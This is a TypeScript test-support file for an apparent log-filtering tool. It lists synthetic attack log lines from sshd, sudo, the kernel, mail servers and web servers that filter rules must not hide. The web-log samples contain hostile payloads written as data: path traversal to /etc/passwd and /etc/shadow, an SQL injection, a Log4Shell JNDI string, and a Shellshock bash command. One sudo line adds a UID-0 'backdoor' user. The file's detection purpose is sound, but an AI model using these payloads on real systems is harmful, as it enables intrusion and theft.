/**
 * Attack samples: lines that no rule may hide unless the user says so. sshd, sudo, su, the kernel, web
 * servers and mail servers write them when they are attacked or broken into. They were made for this project;
 * hosts and addresses are those of RFC 5737 and RFC 2606. A proposed rule that would hide one is a comment in
 * the rules file.
 */
const SYSLOG = 'Jun 14 15:16:01 host ';

const MESSAGES = [
  'sshd[411]: Failed password for root from 203.0.113.9 port 40022 ssh2',
  'sshd[411]: Failed password for invalid user admin from 203.0.113.9 port 40022 ssh2',
  'sshd[411]: Failed none for invalid user oracle from 203.0.113.9 port 40022 ssh2',
  'sshd[411]: Invalid user admin from 203.0.113.9 port 40022',
  'sshd[411]: Invalid user  from 203.0.113.9',
  'sshd[411]: Accepted password for root from 203.0.113.9 port 40022 ssh2',
  'sshd[411]: Accepted publickey for root from 203.0.113.9 port 40022 ssh2: RSA SHA256:AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdefg',
  'sshd[411]: error: maximum authentication attempts exceeded for root from 203.0.113.9 port 40022 ssh2 [preauth]',
  'sshd[411]: error: PAM: Authentication failure for root from 203.0.113.9',
  'sshd[411]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.9  user=root',
  'sshd(pam_unix)[411]: authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost=203.0.113.9  user=root',
  'sshd[411]: PAM 5 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.9  user=root',
  'sshd[411]: Disconnecting authenticating user root 203.0.113.9 port 40022: Too many authentication failures [preauth]',
  'sshd[411]: Did not receive identification string from 203.0.113.9 port 40022',
  "sshd[411]: Bad protocol version identification 'GET / HTTP/1.1' from 203.0.113.9 port 40022",
  'sshd[411]: reverse mapping checking getaddrinfo for evil.example.net [203.0.113.9] failed - POSSIBLE BREAK-IN ATTEMPT!',
  'sshd[411]: Address 203.0.113.9 maps to evil.example.net, but this does not map back to the address - POSSIBLE BREAK-IN ATTEMPT!',
  'sshd[411]: User root from 203.0.113.9 not allowed because not listed in AllowUsers',
  'sshd[411]: fatal: ssh_packet_get_string: incomplete message [preauth]',
  'sshd[411]: refused connect from 203.0.113.9 (203.0.113.9)',
  'sudo:  mallory : user NOT in sudoers ; TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash',
  'sudo:  mallory : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/id',
  'sudo:  mallory : command not allowed ; TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/sbin/useradd -o -u 0 backdoor',
  'sudo: pam_unix(sudo:auth): authentication failure; logname=mallory uid=1001 euid=0 tty=/dev/pts/0 ruser=mallory rhost=  user=mallory',
  'sudo: pam_unix(sudo:session): session opened for user root(uid=0) by mallory(uid=1001)',
  'su[522]: FAILED SU (to root) mallory on pts/0',
  'su[522]: pam_unix(su:auth): authentication failure; logname=mallory uid=1001 euid=0 tty=/dev/pts/0 ruser=mallory rhost=  user=root',
  'su[522]: (to root) mallory on pts/0',
  'su(pam_unix)[522]: session opened for user root by mallory(uid=1001)',
  'login[600]: ROOT LOGIN ON tty2',
  'login[600]: FAILED LOGIN 3 FROM 203.0.113.9 FOR root, Authentication failure',
  'useradd[700]: new user: name=backdoor, UID=0, GID=0, home=/root, shell=/bin/bash',
  "usermod[701]: add 'mallory' to group 'sudo'",
  'passwd[702]: password changed for root',
  'crontab[703]: (mallory) REPLACE (root)',
  'kernel: [ 1042.100001] device eth0 entered promiscuous mode',
  'kernel: [ 1042.200002] httpd[2204]: segfault at 41414141 ip 0000000041414141 sp 00007ffd2b3c error 14 in httpd[400000+52000]',
  'kernel: [ 1042.300003] Out of memory: Killed process 2204 (sshd) total-vm:12345kB, anon-rss:1234kB, file-rss:0kB',
  'kernel: [ 1042.400004] module: loading out-of-tree module taints kernel.',
  'kernel: [ 1042.500005] rootkit: module verification failed: signature and/or required key missing - tainting kernel',
  'kernel: [ 1042.600006] audit: type=1400 audit(1600000000.123:45): apparmor="DENIED" operation="open" profile="/usr/sbin/named" name="/etc/shadow" pid=77 comm="named"',
  'kernel: [ 1042.700007] TCP: request_sock_TCP: Possible SYN flooding on port 80. Sending cookies.',
  'kernel: possible SYN flooding on port 80. Sending cookies.',
  'kernel: [ 1042.800008] BUG: unable to handle kernel paging request at ffffffff81000000',
  'postfix/smtpd[800]: warning: unknown[203.0.113.9]: SASL LOGIN authentication failed: UGFzc3dvcmQ6',
  'postfix/smtpd[800]: NOQUEUE: reject: RCPT from unknown[203.0.113.9]: 554 5.7.1 <a@example.org>: Relay access denied; from=<b@example.net> to=<a@example.org> proto=ESMTP helo=<evil>',
  'postfix/smtpd[800]: too many errors after AUTH from unknown[203.0.113.9]',
  'dovecot: imap-login: Disconnected (auth failed, 3 attempts in 12 secs): user=<root>, method=PLAIN, rip=203.0.113.9, lip=192.0.2.1, TLS',
  'vsftpd[900]: [root] FAIL LOGIN: Client "203.0.113.9"',
  'fail2ban.actions[901]: NOTICE  [sshd] Ban 203.0.113.9',
  "named[902]: client 203.0.113.9#4242: query (cache) './ANY/IN' denied",
  'auditd[903]: Audit daemon is low on disk space for logging',
  'clamd[904]: /home/mallory/x: Eicar-Test-Signature FOUND',
  'sshd[411]: Unable to negotiate with 203.0.113.9 port 40022: no matching cipher found. Their offer: aes128-cbc [preauth]',
  'sshd[411]: Connection reset by authenticating user mallory 203.0.113.9 port 40022 [preauth]',
  'sshd[411]: User mallory from 203.0.113.9 not allowed because none of user groups are listed in AllowGroups',
  'sshd[411]: fatal: Timeout before authentication for 203.0.113.9 port 40022',
  'sshd[411]: PAM service(sshd) ignoring max retries; 6 > 3',
  'sshd[411]: banner exchange: Connection from 203.0.113.9 port 40022: invalid format',
  "usermod[701]: add 'mallory' to group 'wheel'",
  "usermod[701]: add 'mallory' to shadow group 'adm'",
  'gpasswd[701]: user mallory added by root to group docker',
  'groupadd[700]: new group: name=backdoor, GID=0',
  'userdel[700]: delete user anna',
  'kernel: [ 1043.100001] [UFW BLOCK] IN=eth0 OUT= MAC= SRC=203.0.113.9 DST=192.0.2.1 LEN=44 TTL=242 PROTO=TCP SPT=40022 DPT=23 WINDOW=1024 SYN',
  'kernel: [ 1043.200002] DROP IN=eth0 OUT= SRC=203.0.113.9 DST=192.0.2.1 LEN=44 TTL=242 PROTO=TCP SPT=40022 DPT=23 SYN',
  'kernel: [ 1043.300003] EXT4-fs error (device sda1): ext4_find_entry:1455: inode #2: comm ls: reading directory lblock 0',
  'postfix/smtpd[800]: lost connection after AUTH from unknown[203.0.113.9]',
  'postfix/smtpd[800]: disconnect from unknown[203.0.113.9] ehlo=1 auth=0/1 quit=1 commands=2/3',
  'postfix/postscreen[800]: PREGREET 14 after 0.08 from [203.0.113.9]:40022: EHLO example\\r\\n',
  'proftpd[900]: host (203.0.113.9[203.0.113.9]) - USER mallory: no such user found from 203.0.113.9 [203.0.113.9] to 192.0.2.1:21',
  'haproxy[900]: Server primary/db1 is DOWN, reason: Layer7 wrong status, code: 503, check duration: 2ms. 0 active and 0 backup servers left.',
  'portsentry[900]: attackalert: Connect from host: 203.0.113.9/203.0.113.9 to TCP port: 23',
  'scanlogd: 203.0.113.9:40022 to 192.0.2.1 ports 22, 23, 25, 80, 110, ..., fSrpauxy, TOS 00, TTL 64 @15:16:01',
  'fail2ban.filter[901]: INFO    [sshd] Found 203.0.113.9 - 2025-06-14 15:16:01',
  'systemd[1]: Time has been changed',
  'audit[900]: MAC_STATUS enforcing=0 old_enforcing=1 auid=1000 ses=2',
  'audit[900]: ANOM_PROMISCUOUS dev=eth0 prom=256 old_prom=0 auid=1000 uid=0 gid=0 ses=2',
];

const WHOLE = [
  '203.0.113.9 - - [14/Jun/2025:15:16:01 +0000] "GET /../../../../etc/passwd HTTP/1.1" 400 226 "-" "-"',
  '203.0.113.9 - - [14/Jun/2025:15:16:01 +0000] "GET /index.php?id=1%27%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1" 200 512 "-" "sqlmap/1.7"',
  '203.0.113.9 - - [14/Jun/2025:15:16:01 +0000] "GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1" 200 512 "-" "${jndi:ldap://203.0.113.9/a}"',
  '203.0.113.9 - - [14/Jun/2025:15:16:01 +0000] "POST /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1" 500 0 "-" "-"',
  '203.0.113.9 - - [14/Jun/2025:15:16:01 +0000] "GET /cgi-bin/status HTTP/1.0" 200 12 "-" "() { :;}; /bin/bash -c id"',
  '203.0.113.9 - root [14/Jun/2025:15:16:01 +0000] "GET /admin/ HTTP/1.1" 401 381 "-" "curl/8.0"',
  '[Sat Jun 14 15:16:01 2025] [error] [client 203.0.113.9] Invalid URI in request GET /../../etc/shadow HTTP/1.0',
  '[Sat Jun 14 15:16:01.000001 2025] [security2:error] [pid 5:tid 6] [client 203.0.113.9:4242] ModSecurity: Access denied with code 403',
  '2025/06/14 15:16:01 [error] 77#77: *12 access forbidden by rule, client: 203.0.113.9, server: _, request: "GET /.git/config HTTP/1.1", host: "192.0.2.1"',
];

/** A program before its message, after any header: `<38>Jun 14 15:16:01 host sshd[411]: `. */
const BEFORE_MESSAGE = /^(.{0,200}?[\s>])?([A-Za-z][\w.()/-]*)(?:\[\d+\])?(?:: | \d+ - - )/;

/** The texts of the samples, without program, by the program that writes them. */
const TEXTS = new Map<string, string[]>();
for (const message of MESSAGES) {
  const [, program = '', text = ''] = /^([^[: ]+)(?:\[\d+\])?: *(.*)$/.exec(message) ?? [];
  TEXTS.set(program, [...(TEXTS.get(program) ?? []), text]);
}

/** The samples of the program that wrote a line, each after the header of that line, whatever its form. */
export function samplesBehind(lines: readonly string[]): string[] {
  return lines.flatMap((line) => {
    const [header, , program] = BEFORE_MESSAGE.exec(line) ?? [];
    if (header === undefined) return [];
    return (TEXTS.get(program ?? '') ?? []).map((text) => header + text);
  });
}

/** The samples, as ByteStrings. */
export const ATTACK_SAMPLES: readonly string[] = [...MESSAGES.map((message) => SYSLOG + message), ...WHOLE];
